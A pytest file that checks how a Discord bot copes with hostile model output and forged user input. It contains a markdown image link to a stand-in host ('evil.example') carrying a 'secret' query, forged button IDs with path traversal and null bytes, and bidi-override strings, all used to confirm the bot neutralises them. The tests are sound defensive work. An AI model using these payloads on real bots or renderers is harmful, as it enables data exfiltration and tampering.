"""What models, documents and users of Discord send to break the bot or those who read it."""

from __future__ import annotations

from typing import Any

import pytest

from herding.bots.client import FILES
from herding.bots.controls import Page
from herding.bots.reply import REFUSED
from herding.values import Reference
from tests.bots.conftest import bot
from tests.bots.test_discord import complete, status, told
from tests.support.fakediscord import BOT, CODE, GENERAL, FakeDiscord
from tests.support.herding import Place

FREE = """
    name: Free
    target_models: [endless]
    variables: {message: {type: text}}
    messages: [{role: user, content: "{{message}}"}]
    """


def responds(place: Place, *words: str) -> None:
    """Let the model of the prompt `free` say these words and end."""
    place.write("free", FREE)
    node: Any = place.herd["endless"]
    node._words, node._ends = words, True


@pytest.mark.parametrize("blank", ["  \n\n ", "\n", "\t"])
async def test_a_blank_response_is_told_and_nobody_waits_for_it(place: Place, discord: FakeDiscord, blank: str) -> None:
    responds(place, blank)
    async with bot(place, discord, prompt="free"):
        discord.say(GENERAL, "hello")
        reply = await discord.until(lambda: [m for m in discord.own(GENERAL) if "empty" in status(m)])
        assert "Stop" not in discord.labels(reply[0])
        discord.command("ask", question="hello", channel=CODE)
        await discord.until(lambda: [m for m in discord.own(CODE) if "empty" in status(m)])


async def test_a_text_that_discord_refuses_is_told(place: Place, discord: FakeDiscord) -> None:
    responds(place, "good ", "forbidden ", "words")
    discord.refused = "forbidden"
    async with bot(place, discord, prompt="free"):
        discord.say(GENERAL, "hello")
        (reply,) = await complete(discord)
        assert (reply["content"], status(reply)) == ("", REFUSED)
        assert "Stop" not in discord.labels(reply)
        assert (await place.row()).answer == "good forbidden words"


async def test_mentions_and_links_of_a_response_reach_nobody(place: Place, discord: FakeDiscord) -> None:
    responds(place, "@everyone @here <@7> <@&4711> ![](http://evil.example/?q=secret)")
    async with bot(place, discord, prompt="free"):
        discord.say(GENERAL, "@everyone hello")
        discord.command("ask", question="<@&4711> @everyone", channel=CODE)
        for channel in (GENERAL, CODE):
            (reply,) = await complete(discord, channel)
            assert "(<http://evil.example/?q=secret>)" in reply["content"]
            assert reply["allowed"]["parse"] == []
            assert not reply["allowed"].get("users")


@pytest.mark.parametrize("sign", ["q", "🦙", '"', "*"])
def test_embeds_always_fit(sign: str) -> None:
    references = tuple(Reference(n, "docs", "x.md", sign * 900, n, sign * 900, 0.5, sign) for n in range(1, 60))
    page = Page(question=sign * 4_000, status=sign * 4_000, references=references, footer=sign * 3_000)
    embeds = page.embeds()
    assert sum(len(str(part).encode("utf-16-le")) // 2 for embed in embeds for part in _texts(embed)) <= 6_000
    assert all(len(embed.description or "") <= 4_096 for embed in embeds)
    assert "more" in (embeds[-1].description or "")


def _texts(embed: Any) -> list[str]:
    return [embed.title or "", embed.description or "", embed.footer.text or ""]


async def test_ids_of_buttons_that_the_bot_did_not_make_do_nothing(place: Place, discord: FakeDiscord) -> None:
    async with bot(place, discord, channels={str(CODE): {"enabled": False}}):
        for custom_id in (
            "herding:rate:none:5",
            "herding:rate:../../nodes:5",
            "herding:rate:\x00:5",
            "herding:stop:../../../nodes/echo",
            "herding:said:none",
            "herding:rate:" + "x" * 80 + ":5",
        ):
            field = {"type": 4, "custom_id": "text", "value": "y"}
            data = {"custom_id": custom_id, "component_type": 2, "components": [{"type": 1, "components": [field]}]}
            kind = 5 if ":said:" in custom_id else 3
            clicked = discord._interact(kind, data, user=9, channel=GENERAL)
            words = await told(discord, clicked)
            assert "not" in words or "no " in words, words
        for odd in ("herding:", "herding:rate:x:9", "herding:rate", "other:rate:x:5", "herding:\u200b:x", ""):
            discord._interact(3, {"custom_id": odd, "component_type": 2}, user=9, channel=GENERAL)
        forged = {"custom_id": "herding:ask:say|", "components": []}
        assert "not available" in await told(discord, discord._interact(5, forged, user=9, channel=CODE))
        discord.say(GENERAL, "still here", user=9)
        (reply,) = await complete(discord)
        assert reply["content"] == "still here"
        assert [row.prompt for row in await place.rows()] == ["say"]


@pytest.mark.parametrize(
    "text",
    ["\u200b", "\u202e\u2066 evil \u2069", "a\x00b", "<@7>" * 300, f"<@{BOT}>" * 50, "`" * 1_900],
)
async def test_odd_messages_are_answered_in_plain_words(place: Place, discord: FakeDiscord, text: str) -> None:
    async with bot(place, discord, threads=True):
        discord.say(GENERAL, text)
        await discord.until(lambda: any(discord.own(channel) for channel in list(discord.messages)))
        discord.say(CODE, "still here", user=8)
        await discord.until(
            lambda: any("still here" in said for c in list(discord.messages) for said in discord.said(c))
        )


@pytest.mark.parametrize("text", ["Sum this up", ""])
async def test_a_file_is_refused_and_not_left_out_silently(place: Place, discord: FakeDiscord, text: str) -> None:
    async with bot(place, discord):
        discord.say(GENERAL, text, file="message.txt")
        await discord.until(lambda: [one for one in discord.own(GENERAL) if status(one) == FILES])
        assert await place.rows() == []
